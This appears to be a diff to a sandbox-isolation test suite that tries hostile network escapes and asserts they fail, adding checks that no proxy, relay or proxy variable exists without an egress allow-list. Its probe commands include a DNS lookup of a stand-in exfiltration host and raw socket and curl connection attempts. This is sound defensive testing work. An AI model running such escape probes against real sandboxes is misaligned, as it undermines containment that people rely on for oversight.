@@ -26,8 +26,13 @@ describe('hostile: reaching the network from the sandbox', () => {
         `node -e "require('dns').lookup('secret.exfil.example.com',(e,a)=>console.log(e?'no dns':'RESOLVED '+a))"`,
         `curl --noproxy '*' -s -m 3 http://127.0.0.1:${httpPort}/ 2>&1 || echo blocked`,
         `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${httpPort}), 3); print('CONNECTED')" 2>&1 || echo blocked`,
+        // Without an egress allow-list there is no proxy, no relay and no proxy variable at all.
+        nodeConnect('127.0.0.1', 3128),
+        'env | grep -ci proxy; ls /run/warden-egress 2>&1 || true',
       ),
     ]);
+    expect(outcome.outputs.at(-1)).toMatch(/\[stdout\]\n0\n.*No such file or directory/s);
+    expect(outcome.events.filter((event) => event.type === 'net-connect')).toEqual([]);
     expect(outcome.code).toBe(0);
     for (const output of outcome.outputs) {
       expect(output).not.toContain('CONNECTED');
